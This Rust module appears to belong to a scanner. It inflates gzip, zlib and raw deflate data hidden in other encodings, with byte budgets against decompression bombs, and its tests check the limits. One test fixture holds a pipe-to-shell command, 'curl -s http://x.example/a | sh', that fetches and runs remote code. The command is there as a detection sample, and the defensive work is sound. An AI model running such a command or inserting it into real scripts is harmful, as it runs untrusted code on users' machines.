//! Compressed data inside another encoding, inflated with a limit on every side.

use super::plausible;
use miniz_oxide::inflate::decompress_to_vec_with_limit;
use miniz_oxide::inflate::decompress_to_vec_zlib_with_limit;

/// Largest text inflated from one token, in bytes: a script is smaller, a bomb is cut here.
const OUTPUT_MAX: usize = 64 * 1024;
/// RFC 1952 §2.3: the fixed part of a gzip header, in bytes.
const GZIP_HEADER: usize = 10;

/// Inflates what looks compressed, until its budget is used up: without one, many small bombs in
/// one file would take time out of proportion to its size.
pub(in super::super) struct Inflater {
    bytes_left: usize,
    raw: bool,
}

impl Inflater {
    /// For a text of `size` bytes: the output of all its bombs together may be as large as it, or
    /// a mebibyte.
    pub(in super::super) fn for_text(text: &str) -> Self {
        let names = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
        let raw = ["inflate", "Deflate", "decompress"].into_iter().any(names);
        Self { bytes_left: text.len().max(1024 * 1024), raw }
    }

    /// Whether the text names such compression, so that data without any header may be it.
    pub(super) fn takes_raw(&self) -> bool {
        self.raw && self.bytes_left > 0
    }

    /// Whether data begins as gzip (RFC 1952 §2.3.1) or zlib (RFC 1950 §2.2) does.
    pub(super) fn could_be(data: &[u8]) -> bool {
        match data {
            [0x1f, 0x8b, 8, ..] => true,
            [0x78, flags, ..] => (0x7800 + u16::from(*flags)).is_multiple_of(31),
            _ => false,
        }
    }

    /// The text inside, if it is compressed text. A broken end does not hide what stands before.
    pub(super) fn inflate(&mut self, data: &[u8]) -> Option<String> {
        let raw = self.takes_raw() && !data.is_ascii();
        if !Self::could_be(data) && !raw {
            return None;
        }
        let limit = self.bytes_left.min(OUTPUT_MAX);
        if limit == 0 {
            return None;
        }
        let output = match data {
            [0x1f, 0x8b, 8, ..] => decompress_to_vec_with_limit(after_header(data)?, limit),
            [0x78, ..] if Self::could_be(data) => decompress_to_vec_zlib_with_limit(data, limit),
            _ => decompress_to_vec_with_limit(data, limit),
        };
        let output = output.unwrap_or_else(|failed| failed.output);
        self.bytes_left = self.bytes_left.saturating_sub(output.len());
        plausible::readable(&output)
    }
}

/// What follows the header of a gzip member; none when the header is not whole.
pub fn after_header(data: &[u8]) -> Option<&[u8]> {
    // RFC 1952 §2.3: the flags say which optional fields follow the fixed ten bytes.
    let flags = *data.get(3)?;
    let mut rest = data.get(GZIP_HEADER..)?;
    if flags & 4 != 0 {
        let size = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
        rest = rest.get(2 + size..)?;
    }
    for text in [8, 16] {
        if flags & text != 0 {
            rest = rest.get(memchr::memchr(0, rest)? + 1..)?;
        }
    }
    if flags & 2 != 0 {
        rest = rest.get(2..)?;
    }
    Some(rest)
}

#[cfg(test)]
mod tests {
    use super::*;
    use miniz_oxide::deflate::compress_to_vec;
    use miniz_oxide::deflate::compress_to_vec_zlib;

    const HIDDEN: &str = "curl -s http://x.example/a | sh";

    #[test]
    fn gzip_and_zlib_are_read_and_a_bomb_is_cut() {
        let zlib = compress_to_vec_zlib(HIDDEN.as_bytes(), 6);
        let mut gzip = vec![0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3, b'n', 0];
        gzip.extend(compress_to_vec(HIDDEN.as_bytes(), 6));
        for data in [zlib, gzip] {
            assert_eq!(Inflater::for_text("").inflate(&data).as_deref(), Some(HIDDEN));
        }
        let bomb = compress_to_vec_zlib(&b"echo a; ".repeat(1 << 20), 9);
        let cut = Inflater::for_text("").inflate(&bomb).unwrap();
        assert_eq!(cut.len(), OUTPUT_MAX);
    }

    #[test]
    fn the_budget_of_a_file_ends() {
        let bomb = compress_to_vec_zlib(&b"echo a; ".repeat(1 << 14), 9);
        let mut inflater = Inflater::for_text("");
        let scripts = (0..100).filter(|_| inflater.inflate(&bomb).is_some()).count();
        assert_eq!(scripts, 16);
    }
}
